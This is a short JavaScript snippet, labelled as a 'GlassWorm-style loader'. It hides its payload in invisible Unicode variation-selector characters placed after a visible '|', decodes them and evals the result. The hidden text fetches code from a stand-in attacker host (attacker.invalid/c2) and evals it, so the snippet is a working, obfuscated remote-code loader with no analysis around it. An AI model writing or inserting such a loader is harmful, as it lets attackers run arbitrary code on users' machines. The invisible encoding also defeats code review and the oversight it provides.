// GlassWorm-style loader: JavaScript hidden in variation selectors after "|".
const decode = (s) =>
    Buffer.from([...s].map((c) => c.codePointAt(0)).filter((p) => p >= 0xfe00).map((p) =>
        p >= 0xe0100 ? p - 0xe0100 + 16 : p - 0xfe00));
const carrier = "|󠅖󠅕󠅤󠅓󠅘󠄘󠄒󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅑󠅤󠅤󠅑󠅓󠅛󠅕󠅢󠄞󠅙󠅞󠅦󠅑󠅜󠅙󠅔󠄟󠅓󠄢󠄒󠄙󠄞󠅤󠅘󠅕󠅞󠄘󠅢󠄐󠄭󠄮󠄐󠅢󠄞󠅤󠅕󠅨󠅤󠄘󠄙󠄙󠄞󠅤󠅘󠅕󠅞󠄘󠅕󠅦󠅑󠅜󠄙";
eval(decode(carrier.slice(1)).toString("utf8"));
